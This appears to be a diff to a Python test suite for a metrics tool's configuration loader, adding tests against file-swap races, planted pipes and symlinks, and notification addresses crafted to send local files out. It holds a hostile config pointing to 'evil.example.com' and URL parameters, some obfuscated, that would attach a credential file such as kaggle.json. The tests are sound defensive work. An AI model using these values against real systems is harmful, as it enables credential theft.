@@ -22,7 +22,7 @@ def owners(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
     """Let `give_away` work for those who are not root, who cannot."""
 
     def owned(look: Callable[..., os.stat_result]) -> Callable[..., os.stat_result]:
-        def owned_look(path: str | Path, **more: object) -> os.stat_result:
+        def owned_look(path: str | Path | int, **more: object) -> os.stat_result:
             found = look(path, **more)
             if (found.st_dev, found.st_ino) in _another_users:
                 return os.stat_result((*found[:4], os.geteuid() + 1, *found[5:]))
@@ -33,6 +33,7 @@ def owners(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
     if os.geteuid() != 0:
         monkeypatch.setattr(os, "stat", owned(os.stat))
         monkeypatch.setattr(os, "lstat", owned(os.lstat))
+        monkeypatch.setattr(os, "fstat", owned(os.fstat))
     yield
     _another_users.clear()
 
@@ -105,7 +106,105 @@ def test_beside_a_file_that_is_not_read_the_next_one_is(tmp_path: Path) -> None:
     assert interval(tmp_path) == 7
 
 
-@pytest.mark.parametrize("parameter", ["template", "keyfile", "subfile", "TEMPLATE"])
+HOSTILE = 'enabled = false\nnotify = "jsons://evil.example.com"\n'
+
+
+@pytest.mark.parametrize("name", files.NAMES)
+def test_what_is_judged_is_what_is_taken(tmp_path: Path, name: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Though its owner writes something else to it as soon as somebody has read it."""
+    file = tmp_path / name
+    file.write_text(SAID if name == "hwmetrics.toml" else "[tool.ruff]\n")
+    if name == "pyproject.toml":
+        give_away(file)
+    judge = files._found
+
+    def judge_and_change(path: Path) -> bytes:
+        raw = judge(path)
+        file.write_text(HOSTILE if name == "hwmetrics.toml" else f"[tool.otel_hwmetrics]\n{HOSTILE}")
+        return raw
+
+    monkeypatch.setattr(files, "_found", judge_and_change)
+    assert interval(tmp_path) == (7 if name == "hwmetrics.toml" else Config().sample_interval)
+    assert resolve(environ={}, directory=tmp_path).config.enabled is (name != "hwmetrics.toml")
+
+
+def put_there_after(monkeypatch: pytest.MonkeyPatch, put: Callable[[], None]) -> None:
+    """Have somebody put another file in the place of a configuration once it has been seen that there is one."""
+    seen = os.path.isfile
+
+    def seen_and_gone(path: str | Path) -> bool:
+        there = seen(path)
+        if there:
+            put()
+        return there
+
+    monkeypatch.setattr(os.path, "isfile", seen_and_gone)
+
+
+@pytest.mark.parametrize("name", files.NAMES)
+def test_a_pipe_that_is_put_in_the_place_of_a_file_is_not_waited_at(
+    tmp_path: Path, name: str, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
+) -> None:
+    """Nobody could tell how long the job would stand."""
+    file = tmp_path / name
+    file.write_text(SAID)
+
+    def put() -> None:
+        file.unlink()
+        os.mkfifo(file)
+
+    put_there_after(monkeypatch, put)
+    assert interval(tmp_path) == Config().sample_interval
+    assert "is not read: it is no file" in caplog.text
+
+
+def test_a_file_that_takes_the_place_of_another_while_it_is_judged_is_not_read(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """What was opened was another user's, and by its name it is this user's."""
+    (tmp_path / "evil").write_text(HOSTILE)
+    (tmp_path / "hwmetrics.toml").symlink_to("evil")
+    give_away(tmp_path / "evil")
+    look = os.lstat
+
+    def changed(path: str | Path) -> os.stat_result:
+        (tmp_path / "ours").write_text(SAID)
+        (tmp_path / "ours").rename(tmp_path / "hwmetrics.toml")
+        return look(path)
+
+    monkeypatch.setattr(os, "lstat", changed)
+    assert resolve(environ={}, directory=tmp_path).config == Config()
+
+
+def test_a_file_that_may_not_be_read_does_not_keep_the_job_from_its_beginning(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
+) -> None:
+    """Anybody could leave one."""
+    (tmp_path / "hwmetrics.toml").write_text(SAID)
+
+    def refuse(path: str, flags: int) -> int:
+        raise PermissionError(13, "Permission denied", path)
+
+    monkeypatch.setattr(files, "_at_once", refuse)
+    assert interval(tmp_path) == Config().sample_interval
+    assert "is not read: Permission denied" in caplog.text
+
+
+@pytest.mark.parametrize(
+    "parameter",
+    [
+        "template",
+        "keyfile",
+        "subfile",
+        "TEMPLATE",
+        "pgppub",
+        "pgpprv",
+        "%74emplate",
+        "%20template",
+        "x=1;template",
+        "x&template%09",
+    ],
+)
 def test_a_file_that_was_found_names_no_file_of_this_machine_to_be_sent(tmp_path: Path, parameter: str) -> None:
     """Apprise reads it, and sends a template's text wherever the address leads. Whoever runs the job may say so."""
     address = f"workflows://example.com:443/workflow/hunter2/?{parameter}=/home/me/.kaggle/kaggle.json"
